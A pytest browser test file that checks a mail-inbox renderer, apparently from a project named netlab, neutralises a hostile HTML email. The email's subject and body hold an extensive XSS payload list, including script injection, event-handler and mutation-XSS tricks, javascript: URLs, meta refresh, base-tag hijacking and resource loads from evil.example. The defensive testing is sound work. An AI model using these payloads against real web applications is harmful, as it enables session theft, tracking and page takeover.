"""A mail that wants to run, load, cover and send, shown in a real browser: it does none of that."""

import html

import pytest

from netlab.servers import Mailbox
from netlab.servers.inbox import account_html, message_html

pytestmark = pytest.mark.browser

SUBJECT = b"Subject: <img src=x onerror=hit('subject')>\r\nFrom: <script>hit('from')</script>\r\n"
HOSTILE = """
<script>hit('script')</script><ScRiPt src=http://evil.example/x.js></sCrIpT>
<img src=http://evil.example/pixel.png onerror="hit('img')"><img src=x onerror=hit('img2')>
<svg onload=hit('svg')><script>hit('svg script')</script><image href=http://evil.example/i /></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit('mxss')&gt;"></table>
</mtext></math>
<iframe src="javascript:parent.hit('iframe')"></iframe><iframe srcdoc="<script>parent.hit('srcdoc')</script>"></iframe>
<body onload=hit('body')><details open ontoggle=hit('toggle')>x</details><input autofocus onfocus=hit('focus')>
<video poster=http://evil.example/v><source onerror=hit('video') src=x></video><audio src=http://evil.example/a>
<object data="javascript:hit('object')"></object><embed src=http://evil.example/e>
<link rel=stylesheet href=http://evil.example/s.css><style>@import "http://evil.example/i.css";body{display:none}</style>
<meta http-equiv=refresh content="0;url=http://evil.example/m"><base href=http://evil.example/>
<div style="position:fixed;inset:0;background:url(http://evil.example/b)">cover</div>
<table background=http://evil.example/t><td style="background-image:url(//evil.example/c)">x</table>
<form action=http://evil.example/f><button id=go>Send</button></form>
<a id=link href="javascript:hit('link')" onclick="hit('click')" target=_top>click here</a>
<noscript><p title="</noscript><img src=x onerror=hit('noscript')>"></noscript>
<!--><img src=x onerror=hit('comment')>-->
<textarea><img title="</textarea><img src=x onerror=hit('textarea')>"></textarea>
<p>the text is read</p></div></div></div></body></html>
"""


@pytest.fixture
def shown(browser):
    """Open a page with some HTML within it; what it tried to load and run is in the two lists."""
    page = browser.new_page()
    loaded, hits = [], []
    page.expose_function("hit", lambda where: hits.append(where))
    page.route("**/*", lambda route: (loaded.append(route.request.url), route.abort()))

    def shown(body):
        page.set_content(f"<!DOCTYPE html><div id=cell>{body}</div><p id=after>after</p>", wait_until="load")
        return page, loaded, hits

    yield shown
    page.close()


def test_the_hostile_mail_is_hostile(shown):
    _, loaded, hits = shown(HOSTILE)
    assert loaded
    assert hits


@pytest.mark.parametrize("coded", [False, True], ids=["raw", "escaped twice"])
def test_it_does_nothing_when_netlab_shows_it(shown, coded):
    account = Mailbox({"ada@ticker.example": "x"})["ada@ticker.example"]
    source = html.escape(HOSTILE) if coded else HOSTILE
    message = account.inbox.add(SUBJECT + b"Content-Type: text/html\r\n\r\n" + source.encode())
    page, loaded, hits = shown(account_html(account) + message_html(message))
    for link in page.query_selector_all("#cell a"):
        link.click()
    page.mouse.move(50, 50)
    page.wait_for_load_state("networkidle")
    assert loaded == []
    assert hits == []
    assert "the text is read" in page.inner_text("#cell")
    assert (
        page.query_selector_all("#cell script, #cell iframe, #cell form, #cell style, #cell svg, #cell img")
        == []
    )
    assert page.is_visible("#after")
    assert page.evaluate("document.querySelector('#after').parentElement === document.body")
